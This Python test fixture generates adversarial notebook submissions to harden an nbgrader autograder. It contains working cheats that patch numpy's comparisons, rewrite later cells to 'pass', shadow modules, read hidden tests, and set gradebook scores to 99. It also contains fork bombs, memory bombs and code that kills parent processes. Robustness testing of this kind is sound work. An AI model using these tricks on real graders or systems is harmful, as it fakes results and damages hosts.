"""Adversarial submissions: one student per attack on the grader or fault in the notebook.

Every submission starts as a copy of the reference submission (the master notebook, run, with
its weights file) and changes the least needed for its attack. The cheats are real attempts that
worked on stock nbgrader 0.9.6 (see NBGRADER-NOTES, "Exploits"); the faults are the ways a
notebook breaks a grading run. Each student id says what its submission does.

``honest-twin`` is the yardstick for the cheats: it has the broken code the cheats fall back on
(both loss functions return zeros) with no cheat at all. A cheat deserves no more, on the tests of
the function it cheats on, than this honest twin gets.
"""

import json
import shutil
from pathlib import Path

import nbformat

from autograder.pipeline import NOTEBOOK, replace_cells

# Printed by cheats when an attack worked: a test fails if one reaches a notebook.
FOUND = "ADVERSARIAL-FOUND"
WRITE_MARKER = "ADVERSARIAL-WRITE-MARKER"

NAIVE_OK = '''def softmax_loss_naive(W, X, y, reg):
    """Softmax loss, loops (reference code)."""
    loss = 0.0
    dW = np.zeros_like(W)
    num_samples, num_classes = X.shape[0], W.shape[1]
    for i in range(num_samples):
        scores = X[i].dot(W)
        scores = scores - np.max(scores)
        exp_scores = np.exp(scores)
        total = np.sum(exp_scores)
        loss += np.log(total) - scores[y[i]]
        for j in range(num_classes):
            dW[:, j] += (exp_scores[j] / total - (j == y[i])) * X[i]
    loss = loss / num_samples + reg * np.sum(W * W)
    dW = dW / num_samples + 2 * reg * W
    return loss, dW
'''

NAIVE_ZEROS = '''def softmax_loss_naive(W, X, y, reg):
    """Not done: returns zeros."""
    return 0.0, np.zeros_like(W)
'''

VECTORIZED_ZEROS = '''def softmax_loss_vectorized(W, X, y, reg):
    """Not done: returns zeros."""
    return 0.0, np.zeros_like(W)
'''

VECTORIZED_BUGGY = '''def softmax_loss_vectorized(W, X, y, reg):
    """Honest attempt with a bug: the gradient is not divided by N."""
    num_samples = X.shape[0]
    rows = np.arange(num_samples)
    scores = X.dot(W)
    scores = scores - scores.max(axis=1, keepdims=True)
    log_probs = scores - np.log(np.exp(scores).sum(axis=1, keepdims=True))
    loss = -log_probs[rows, y].mean() + reg * np.sum(W * W)
    probs = np.exp(log_probs)
    probs[rows, y] -= 1.0
    dW = X.T.dot(probs) + 2 * reg * W
    return loss, dW
'''

PATCH_COMPARISONS = '''import math
import numpy
_always = lambda *args, **kwargs: True
numpy.allclose = np.allclose = _always
numpy.isclose = np.isclose = _always
numpy.array_equal = np.array_equal = _always
numpy.testing.assert_allclose = np.testing.assert_allclose = lambda *args, **kwargs: None
numpy.testing.assert_array_equal = lambda *args, **kwargs: None
numpy.testing.assert_array_almost_equal = lambda *args, **kwargs: None
math.isclose = _always
'''


def _paths_to_try(course):
    """Where a cheat looks for the course's files: relative to the notebook and absolute."""
    return [str(p) for p in ("../../..", "../..", "..", str(course), "/work/main", "/root", "/")]


def _reader(course, names):
    """Solution-cell code that looks for files named ``names`` and prints what it finds."""
    return f'''import os
_found = []
for _base in {_paths_to_try(course)!r}:
    for _name in {names!r}:
        _p = os.path.join(_base, _name)
        try:
            with open(_p, "rb") as _f:
                _data = _f.read()
        except Exception as _exc:
            print("cannot read", _p, type(_exc).__name__)
            continue
        _found.append(_p)
        _text = _data.decode("latin-1")
        for _key in ("BEGIN HIDDEN TESTS", "check_value", "_reference", "BEGIN SOLUTION"):
            _at = _text.find(_key)
            if _at >= 0:
                print("{FOUND}", _p, _key, repr(_text[max(0, _at - 200):_at + 800]))
print("files found:", _found)
'''


def _writer(course):
    """Solution-cell code that tries to change the gradebook and drop files in the course."""
    return f'''import os, sqlite3
for _base in {_paths_to_try(course)!r}:
    _db = os.path.join(_base, "gradebook.db")
    try:
        _con = sqlite3.connect(_db, timeout=1)
        _con.execute("CREATE TABLE IF NOT EXISTS adversarial_marker (note TEXT)")
        _con.execute("INSERT INTO adversarial_marker VALUES ('{WRITE_MARKER}')")
        _con.execute("UPDATE grade SET manual_score = 99")
        _con.commit()
        _con.close()
        print("{FOUND} wrote gradebook", _db)
    except Exception as _exc:
        print("cannot write gradebook", _db, type(_exc).__name__, _exc)
    for _target in (_db, os.path.join(_base, "{WRITE_MARKER}"),
                    os.path.join(_base, "source", "softmax", "{WRITE_MARKER}")):
        try:
            with open(_target, "ab") as _f:
                _f.write(b"{WRITE_MARKER}")
            print("{FOUND} appended to", _target)
        except Exception as _exc:
            print("cannot append to", _target, type(_exc).__name__)
'''


NETWORK = f'''import socket, urllib.request
for _host, _port in (("1.1.1.1", 53), ("8.8.8.8", 53), ("pypi.org", 443), ("127.0.0.1", 22)):
    try:
        socket.create_connection((_host, _port), timeout=3).close()
        print("{FOUND} connected to", _host, _port)
    except Exception as _exc:
        print("no connection to", _host, _port, type(_exc).__name__)
try:
    urllib.request.urlopen("http://example.com", timeout=3)
    print("{FOUND} fetched http://example.com")
except Exception as _exc:
    print("no http", type(_exc).__name__)
'''

ALWAYS_EQUAL = '''class _AlwaysEqual(float):
    """Equal to everything, close to everything."""
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return False
    def __gt__(self, other): return False
    def __le__(self, other): return True
    def __ge__(self, other): return True
    def __abs__(self): return _AlwaysEqual(0.0)
    def __sub__(self, other): return _AlwaysEqual(0.0)
    __rsub__ = __sub__
    def __hash__(self): return 0


class _AlwaysEqualArray(np.ndarray):
    def __eq__(self, other): return np.ones(np.shape(self), dtype=bool)
    def __ne__(self, other): return np.zeros(np.shape(self), dtype=bool)
    def __array_finalize__(self, obj): pass


def softmax_loss_vectorized(W, X, y, reg):
    """Cheat: results that compare equal to anything."""
    return _AlwaysEqual(0.0), np.zeros_like(W).view(_AlwaysEqualArray)
'''

INPUT_TRANSFORMER = NAIVE_ZEROS + '''
# Cheat: every later cell (restored tests, grader probes) becomes "pass".
get_ipython().input_transformers_cleanup.append(lambda lines: ["pass\\n"])
'''

RUN_CELL_WRAPPER = NAIVE_ZEROS + '''
# Cheat: every later cell runs "pass" instead of its own code.
_ip = get_ipython()
_orig_run_cell, _orig_run_cell_async = _ip.run_cell, _ip.run_cell_async
def _fake_run_cell(raw_cell, *args, **kwargs):
    return _orig_run_cell("pass", *args, **kwargs)
async def _fake_run_cell_async(raw_cell, *args, **kwargs):
    return await _orig_run_cell_async("pass", *args, **kwargs)
_ip.run_cell, _ip.run_cell_async = _fake_run_cell, _fake_run_cell_async
_ip.should_run_async = lambda *args, **kwargs: False
'''

DISPLAYHOOK = '''import sys


def softmax_loss_vectorized(W, X, y, reg):
    """Cheat: shows a result of 2 (a partial-credit score of 2 points) and returns zeros."""
    sys.displayhook(2)
    print(2)
    return 0.0, np.zeros_like(W)
'''

NUMPY_SHADOW_FILE = '''"""Shadow numpy: load the real one, then make every comparison pass."""
import importlib.machinery, importlib.util, math, os, sys
_here = os.path.dirname(os.path.abspath(__file__))
_path = [p for p in sys.path if os.path.abspath(p or ".") != _here]
_spec = importlib.machinery.PathFinder.find_spec("numpy", _path)
_real = importlib.util.module_from_spec(_spec)
sys.modules["numpy"] = _real
_spec.loader.exec_module(_real)
_always = lambda *args, **kwargs: True
_real.allclose = _real.isclose = _real.array_equal = _always
_real.testing.assert_allclose = lambda *args, **kwargs: None
math.isclose = _always
print("ADVERSARIAL-FOUND numpy shadowed")
'''

FAKE_ASSIGNMENT_INIT = '''"""Fake assignment package: patch numpy's comparisons, then become the real package."""
import math, os, sys
import numpy
_always = lambda *args, **kwargs: True
numpy.allclose = numpy.isclose = numpy.array_equal = _always
numpy.testing.assert_allclose = lambda *args, **kwargs: None
math.isclose = _always
print("ADVERSARIAL-FOUND fake assignment package imported")
_here = os.path.dirname(os.path.abspath(__file__))
for _entry in sys.path:
    _real = os.path.join(os.path.abspath(_entry or "."), "assignment")
    if _real != _here and os.path.isfile(os.path.join(_real, "__init__.py")):
        __path__[:] = [_real]
        exec(open(os.path.join(_real, "__init__.py")).read())
        break
'''

MEMORY_BOMB = NAIVE_OK + '''
_hog = []
while True:
    _hog.append(bytearray(256 * 1024 * 1024))
'''

FORK_BOMB = NAIVE_OK + '''
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
'''

HUGE_OUTPUT = NAIVE_OK + '''
print("x" * 100_000_000)
'''

INFINITE_LOOP = '''def softmax_loss_naive(W, X, y, reg):
    """Never returns."""
    while True:
        pass
'''


def _with(prefix, code):
    return prefix + "\n" + code


def _vectorized_ok(notebook):
    nb = nbformat.read(notebook, as_version=4)
    return next(c.source for c in nb.cells
                if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "softmax_loss_vectorized")


def _edit_cells(notebook, edit):
    nb = nbformat.read(notebook, as_version=4)
    edit(nb)
    nbformat.write(nb, notebook)


def _gid(cell):
    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")


def _index(nb, grade_id):
    return next(i for i, c in enumerate(nb.cells) if _gid(c) == grade_id)


def _delete_cells(nb):
    for gid in ("test_softmax_loss_naive_value", "softmax_loss_vectorized"):
        del nb.cells[_index(nb, gid)]


def _duplicate_cells(nb):
    for gid in ("test_softmax_loss_naive_value", "softmax_loss_naive"):
        i = _index(nb, gid)
        copy = nbformat.from_dict(json.loads(json.dumps(nb.cells[i])))
        copy.pop("id", None)
        nb.cells.insert(i + 1, copy)


def _reorder_cells(nb):
    i, j = _index(nb, "test_softmax_loss_naive_value"), _index(nb, "test_softmax_loss_naive_gradient")
    nb.cells[i], nb.cells[j] = nb.cells[j], nb.cells[i]


def _retype_cell(nb):
    i = _index(nb, "softmax_loss_vectorized")
    old = nb.cells[i]
    new = nbformat.v4.new_markdown_cell(old.source, metadata=old.metadata)
    nb.cells[i] = new


def _strip_metadata(nb):
    for cell in nb.cells:
        cell.metadata.pop("nbgrader", None)


# Which solution function each cheat attacks (its tests must score no more than the twin's).
CHEATS = {
    "cheat-patch-allclose": ["softmax_loss_vectorized"],
    "cheat-always-equal": ["softmax_loss_vectorized"],
    "cheat-input-transformer": ["softmax_loss_naive", "softmax_loss_vectorized"],
    "cheat-run-cell-wrapper": ["softmax_loss_naive", "softmax_loss_vectorized"],
    "cheat-displayhook": ["softmax_loss_vectorized"],
    "cheat-read-gradebook": [],
    "cheat-write-gradebook": [],
    "cheat-read-source": [],
    "cheat-numpy-shadow": ["softmax_loss_vectorized"],
    "cheat-fake-assignment-pkg": ["softmax_loss_vectorized"],
    "cheat-network": [],
}
FAULTS = ["fault-infinite-loop", "fault-memory-bomb", "fault-fork-bomb", "fault-os-exit",
          "fault-kill-parent", "fault-sys-exit", "fault-keyboard-interrupt", "fault-huge-output",
          "fault-corrupt-json", "fault-deleted-cells", "fault-duplicated-cells",
          "fault-reordered-cells", "fault-retyped-cell", "fault-stripped-metadata",
          "fault-renamed-notebook", "fault-empty-folder"]
HONEST = ["honest-reference", "honest-buggy"]
TWIN = "honest-twin"


def build_all(course, reference):
    """Create every adversarial submission in ``course/submitted`` from ``reference``'s folder."""
    course = Path(course)
    reference = Path(reference)
    vectorized_ok = _vectorized_ok(reference / NOTEBOOK)

    def make(student, cells=None, edit=None):
        folder = course / "submitted" / student / "softmax"
        if folder.exists():
            shutil.rmtree(folder)
        shutil.copytree(reference, folder)
        if cells:
            replace_cells(folder / NOTEBOOK, cells)
        if edit:
            _edit_cells(folder / NOTEBOOK, edit)
        return folder

    if reference.parent.name != "honest-reference":
        make("honest-reference")
    make("honest-buggy", {"softmax_loss_vectorized": VECTORIZED_BUGGY})
    make(TWIN, {"softmax_loss_naive": NAIVE_ZEROS, "softmax_loss_vectorized": VECTORIZED_ZEROS})

    make("cheat-patch-allclose", {"softmax_loss_vectorized": _with(PATCH_COMPARISONS, VECTORIZED_ZEROS)})
    make("cheat-always-equal", {"softmax_loss_vectorized": ALWAYS_EQUAL})
    make("cheat-input-transformer", {"softmax_loss_naive": INPUT_TRANSFORMER})
    make("cheat-run-cell-wrapper", {"softmax_loss_naive": RUN_CELL_WRAPPER})
    make("cheat-displayhook", {"softmax_loss_vectorized": DISPLAYHOOK})
    make("cheat-read-gradebook", {"softmax_loss_naive": _with(
        _reader(course, ["gradebook.db"]), NAIVE_OK)})
    make("cheat-write-gradebook", {"softmax_loss_naive": _with(_writer(course), NAIVE_OK)})
    make("cheat-read-source", {"softmax_loss_naive": _with(
        _reader(course, ["source/softmax/softmax.ipynb", "softmax.ipynb", "nbgrader_config.py",
                         "autograder/judge.py"]), NAIVE_OK)})
    folder = make("cheat-numpy-shadow", {"softmax_loss_vectorized": VECTORIZED_ZEROS})
    (folder / "numpy.py").write_text(NUMPY_SHADOW_FILE)
    folder = make("cheat-fake-assignment-pkg", {"softmax_loss_vectorized": VECTORIZED_ZEROS})
    (folder / "assignment").mkdir()
    (folder / "assignment" / "__init__.py").write_text(FAKE_ASSIGNMENT_INIT)
    make("cheat-network", {"softmax_loss_naive": _with(NETWORK, NAIVE_OK)})

    make("fault-infinite-loop", {"softmax_loss_naive": INFINITE_LOOP})
    make("fault-memory-bomb", {"softmax_loss_naive": MEMORY_BOMB})
    make("fault-fork-bomb", {"softmax_loss_naive": FORK_BOMB})
    make("fault-os-exit", {"softmax_loss_vectorized": vectorized_ok + "\nimport os\nos._exit(3)\n"})
    make("fault-kill-parent", {"softmax_loss_vectorized": vectorized_ok
                               + "\nimport os\nos.kill(os.getppid(), 9)\nos.kill(1, 9)\n"})
    make("fault-sys-exit", {"softmax_loss_vectorized": vectorized_ok + "\nimport sys\nsys.exit(3)\n"})
    make("fault-keyboard-interrupt", {"softmax_loss_vectorized": vectorized_ok
                                      + "\nimport os, signal\nos.kill(os.getpid(), signal.SIGINT)\n"
                                      + "raise KeyboardInterrupt\n"})
    make("fault-huge-output", {"softmax_loss_naive": HUGE_OUTPUT})
    folder = make("fault-corrupt-json")
    text = (folder / NOTEBOOK).read_bytes()
    (folder / NOTEBOOK).write_bytes(text[: len(text) // 2])
    make("fault-deleted-cells", edit=_delete_cells)
    make("fault-duplicated-cells", edit=_duplicate_cells)
    make("fault-reordered-cells", edit=_reorder_cells)
    make("fault-retyped-cell", edit=_retype_cell)
    make("fault-stripped-metadata", edit=_strip_metadata)
    folder = make("fault-renamed-notebook")
    (folder / NOTEBOOK).rename(folder / "my_softmax.ipynb")
    folder = course / "submitted" / "fault-empty-folder" / "softmax"
    folder.mkdir(parents=True, exist_ok=True)
    return sorted(p.name for p in (course / "submitted").iterdir())
